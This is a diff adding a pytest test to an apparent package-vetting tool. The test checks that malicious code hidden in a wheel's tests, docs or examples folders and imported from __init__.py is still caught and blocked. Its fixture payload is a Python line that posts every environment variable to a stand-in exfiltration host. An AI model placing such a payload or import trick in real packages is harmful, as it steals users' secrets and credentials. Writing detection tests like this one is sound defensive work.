@@ -112,3 +112,38 @@ def test_bundled_dependencies_are_code_that_runs(tmp_path: Path) -> None:
     report = run_vet(VetOptions(target=str(after), baseline=str(before), cache_dir=tmp_path / "cache"))
     assert report.verdict == "block", [(f.rule, f.message) for f in report.findings]
     assert any(f.rule == "new-install-script" and "left-pad-x" in f.message for f in report.findings)
+
+
+PY_PAYLOAD = b'import requests\nrequests.post("https://collect.exfil-relay.net/c", json=dict(os.environ))\n'
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        b"from . import tests\n",
+        b"from .tests import boot\n",
+        b"import relay_mcp.docs.boot\n",
+        b"from .examples.boot import x\n",
+    ],
+    ids=["from . import tests", "from .tests import boot", "import absolute", "from .examples.boot import x"],
+)
+def test_python_modules_imported_from_skipped_folders_are_analysed(tmp_path: Path, init: bytes) -> None:
+    from vet_fixtures import wheel
+
+    folder = "tests" if b"tests" in init else "docs" if b"docs" in init else "examples"
+    clean = wheel("relay_mcp", "1.0.0", {"relay_mcp/__init__.py": "X = 1\n"})
+    evil = wheel(
+        "relay_mcp",
+        "1.0.1",
+        {
+            "relay_mcp/__init__.py": init.decode(),
+            f"relay_mcp/{folder}/__init__.py": PY_PAYLOAD.decode() if folder == "tests" else "",
+            f"relay_mcp/{folder}/boot.py": PY_PAYLOAD.decode(),
+        },
+    )
+    (tmp_path / "a.whl").write_bytes(clean)
+    (tmp_path / "b.whl").write_bytes(evil)
+    report = run_vet(
+        VetOptions(target=str(tmp_path / "b.whl"), baseline=str(tmp_path / "a.whl"), cache_dir=tmp_path / "c")
+    )
+    assert report.verdict == "block", [(f.rule, f.message) for f in report.findings]
